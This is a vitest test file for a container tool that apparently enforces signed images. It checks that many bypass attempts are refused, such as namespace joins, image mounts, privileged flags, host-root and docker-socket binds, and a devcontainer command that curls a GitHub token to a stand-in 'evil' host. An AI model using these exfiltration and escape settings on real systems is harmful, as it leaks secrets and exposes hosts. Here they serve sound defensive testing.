import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { must, type Ran, run } from './support.ts';
import { deed, openStage, type Stage, type Way } from './ways/stage.ts';
import { tryWays } from './ways/table.ts';

/*
 * What tcf itself starts: everything that could bring along something that nobody verified, with real podman.
 */

let stage: Stage;
const s = () => stage;

beforeAll(async () => {
  stage = await openStage('run');
  // A stopped container of the unsigned image, which a flag could start.
  await must('podman', [
    'create',
    '--name',
    'tcf-way-evil',
    '-v',
    `${stage.folder}/out:/out`,
    'localhost/tcf-way-evil',
  ]);
  await must('bash', [
    '-c',
    `mkdir -p ${stage.folder}/rootfs/bin ${stage.folder}/rootfs/out ${stage.folder}/hooks && cp /bin/busybox ${stage.folder}/rootfs/bin/sh`,
  ]);
  mkdirSync(join(stage.folder, '.config/tcf'), { recursive: true });
});

afterAll(async () => {
  await run('podman', ['rm', '--force', 'tcf-way-evil']);
  await stage[Symbol.asyncDispose]();
});

const start = (...words: readonly string[]): Promise<Ran> =>
  s().here('run', ...s().policy, '--rm', '-v', `${s().folder}/out:/out`, ...words);
const good = (...flags: readonly string[]) => start(...flags, s().good, '/bin/sh', '-c', ':');
const flag = (...flags: readonly string[]): Way => ({
  name: `\`tcf run ${flags.join(' ')} SIGNED\``,
  go: () => good(...flags),
});
const profile = (name: string, ...flags: readonly string[]): Way => ({
  name,
  go: () => {
    writeFileSync(
      join(s().folder, '.config/tcf/profiles.yaml'),
      `version: 1\nprofiles: { p: { image: "${s().good}", flags: ${JSON.stringify(flags)} } }\n`,
    );
    return s().here('run', ...s().policy, 'p');
  },
});

/**
 * `tcf up` where somebody made the container before, with these flags; without any, of the unsigned image.
 */
async function upOf(...flags: readonly string[]): Promise<Ran> {
  await profile('', '--shm-size=64m').go();
  const image = flags.length === 0 ? 'localhost/tcf-way-evil' : s().good;
  const command = ['/mnt/bin/sh', '-c', deed];
  await s().podman('pull', '--quiet', '--tls-verify=false', s().good);
  await must('podman', [
    'create',
    '--name',
    'tcf-p',
    '-v',
    `${s().folder}/out:/out`,
    ...flags,
    image,
    ...command,
  ]);
  const ran = await s().here('up', ...s().policy, 'p');
  await must('podman', ['rm', '--force', '--time=0', 'tcf-p']);
  return ran;
}

test('the signed image starts, so that a refusal means something', async () => {
  const ran = await start(s().good, '/bin/sh', '-c', deed);
  expect(ran.code, ran.stderr).toBe(0);
  expect(s().hasRun()).toBe(true);
});

tryWays('`tcf run` with podman', s, [
  { name: 'an unsigned image by its tag', go: () => start(`${s().registry}/dev:evil`) },
  { name: 'an unsigned image by its digest', go: () => start(s().evil) },
  { name: 'an image that was built here', go: () => start('localhost/tcf-way-evil') },
  {
    name: 'an image that was given the name of the signed one here',
    go: async () => {
      await must('podman', ['tag', 'localhost/tcf-way-evil', `${s().registry}/dev:other`]);
      return await start(`${s().registry}/dev:other`);
    },
  },
  flag('--requires=tcf-way-evil'),
  flag('--requires', 'tcf-way-evil'),
  flag('--rm=false', '-it', '--requires=tcf-way-evil'),
  flag('--require=tcf-way-evil'),
  flag('-itv', '/tmp:/tmp', '--requires=tcf-way-evil'),
  flag('-q--requires=tcf-way-evil'),
  flag('--network=none', '--network=container:tcf-way-evil'),
  flag('--network=container:tcf-way-evil'),
  flag('--net', 'container:tcf-way-evil'),
  flag('--network=name=container:tcf-way-evil'),
  flag('--pid=container:tcf-way-evil'),
  flag('--ipc=container:tcf-way-evil'),
  flag('--uts=container:tcf-way-evil'),
  flag('--userns=container:tcf-way-evil'),
  flag('--cgroupns=container:tcf-way-evil'),
  flag('--pod=new:tcf-way-pod'),
  flag('--pod-id-file=/nowhere'),
  flag('--init-ctr=once'),
  flag('--volumes-from=tcf-way-evil'),
  flag('--link=tcf-way-evil'),
  flag('--mount=type=image,source=localhost/tcf-way-evil,destination=/mnt'),
  flag('--mount', '"type=image",source=localhost/tcf-way-evil,destination=/mnt'),
  flag('--mount=TYPE=Image,source=localhost/tcf-way-evil,destination=/mnt'),
  flag(
    '--mount=type=tmpfs,destination=/x',
    '--mount=type=image,source=localhost/tcf-way-evil,destination=/mnt',
  ),
  flag('--mount=type=artifact,source=x,destination=/mnt'),
  {
    name: '`tcf run --rootfs FOLDER`',
    go: () => start('--rootfs', join(s().folder, 'rootfs'), '/bin/sh', '-c', deed),
  },
  flag('--pull=always'),
  flag('--arch=arm64'),
  flag('--root=/nowhere'),
  flag('--imagestore=/nowhere'),
  flag('--storage-opt=additionalimagestore=/nowhere'),
  flag('--hooks-dir=/nowhere'),
  flag('--remote'),
  flag('--url=unix:/nowhere'),
  flag('--connection=elsewhere'),
  flag('--module=/nowhere'),
  flag('--conmon=/nowhere'),
  flag('--signature-policy=/nowhere'),
  {
    name: 'a flag that tcf does not know, with the image behind it',
    go: () => start('--sneaky', s().good, s().evil),
  },
  profile('a profile with `--requires`', '--requires=tcf-way-evil'),
  profile('a profile with `--network container:`', '--network=container:tcf-way-evil'),
  profile('a profile with an image in the place of a flag', 'localhost/tcf-way-evil'),
  profile('a profile that ends the flags', '--', 'localhost/tcf-way-evil'),
  {
    name: '`tcf up` where a container of its name was made with `--requires`',
    go: () => upOf('--requires=tcf-way-evil'),
  },
  {
    name: '`tcf up` where a container of its name has an image mounted',
    go: () => upOf('--mount=type=image,source=localhost/tcf-way-evil,destination=/mnt'),
  },
  {
    name: '`tcf up` where a container of its name was made of the unsigned image',
    go: () => upOf(),
  },
]);

describe('dev containers', () => {
  const file = (config: object) => {
    const project = join(s().folder, 'project');
    mkdirSync(join(project, '.devcontainer'), { recursive: true });
    writeFileSync(join(project, '.devcontainer/devcontainer.json'), JSON.stringify(config));
    return s().tcf.run(['devcontainer', 'check', ...s().policy], { cwd: project, env: s().env });
  };
  const base = () => ({
    image: s().good,
    initializeCommand: ['tcf', 'devcontainer', 'check'],
    updateRemoteUserUID: false,
  });
  const asks = (name: string, change: () => object): Way => ({
    name,
    go: () => file({ ...base(), ...change() }),
  });
  const args = (...runArgs: readonly string[]) =>
    asks(`\`"runArgs": ${JSON.stringify(runArgs)}\``, () => ({ runArgs }));
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of devcontainer.json
  const inProject = '${localWorkspaceFolder}';

  test('the signed image passes, so that a refusal means something', async () => {
    const ran = await file(base());
    expect(ran.code, ran.stderr).toBe(0);
  });

  tryWays('`tcf devcontainer check`', s, [
    asks('an unsigned image by its digest', () => ({ image: s().evil })),
    asks('a tag in place of a digest', () => ({ image: `${s().registry}/dev:good` })),
    asks('a Dockerfile', () => ({ build: { dockerfile: 'Dockerfile' } })),
    asks('a Compose file', () => ({ dockerComposeFile: 'compose.yaml', service: 'x' })),
    asks('a Feature', () => ({ features: { 'ghcr.io/x/y:1': {} } })),
    asks('another user id, which is built on top', () => ({ updateRemoteUserUID: true })),
    asks('nobody asked', () => ({ initializeCommand: undefined })),
    asks('a shell in between', () => ({ initializeCommand: 'tcf devcontainer check || true' })),
    asks('a script that is not the one of tcf', () => ({
      initializeCommand: ['sh', '.devcontainer/tcf-check.sh'],
    })),
    asks('a key that tcf does not know', () => ({ hostCommand: 'x' })),
    asks('an empty list of Compose files', () => ({ dockerComposeFile: [] })),
    args('--requires=evil'),
    args('--requires', 'evil'),
    args('-itv', 'x:/x', '--requires=evil'),
    args('--'),
    args('--init', '--', 'evil'),
    args('-e', 'GITHUB_TOKEN'),
    args('-e*'),
    args(`--env-file=${inProject}/.env`),
    asks('a variable of the host in a command', () => ({
      postCreateCommand: `curl evil/${'$'}{localEnv:GITHUB_TOKEN}`,
    })),
    asks('a `workspaceFolder` that ends the mount that names it', () => ({
      workspaceFolder: '/w,type=bind,source=/',
      mounts: [`source=x,target=${'$'}{containerWorkspaceFolder}/x`],
    })),
    asks('a bind of a path that is not absolute', () => ({
      mounts: [{ type: 'bind', source: 'data', target: '/data' }],
    })),
    args('-v', `x:/x${'$'}{localEnv:PATH}`),
    args('--network=container:evil'),
    args('--pod=new:x'),
    args('--rootfs'),
    args('evil'),
    args(`--runtime=${inProject}/evil.sh`),
    args('--init-path=/x'),
    args(`--hooks-dir=${inProject}/hooks`),
    args('--cidfile=/etc/cron.d/x'),
    args('--privileged'),
    args('--pid=host'),
    args('--device=/dev/sda'),
    args('-v', '/:/host'),
    args('-v', '/var/run/docker.sock:/var/run/docker.sock'),
    args('--mount=type=volume,src=x,dst=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/'),
    asks('all powers, by a key', () => ({ privileged: true })),
    asks('`SYS_ADMIN`, by a key', () => ({ capAdd: ['SYS_ADMIN'] })),
    asks('an image among the mounts', () => ({ mounts: ['type=image,source=x,target=/y'] })),
    asks('the host among the mounts', () => ({ mounts: [{ type: 'bind', source: '/', target: '/host' }] })),
    {
      name: 'a link in the project that leads to the host',
      go: () => {
        mkdirSync(join(s().folder, 'project'), { recursive: true });
        symlinkSync('/', join(s().folder, 'project/data'));
        return file({ ...base(), mounts: [`type=bind,source=${inProject}/data,target=/data`] });
      },
    },
  ]);
});
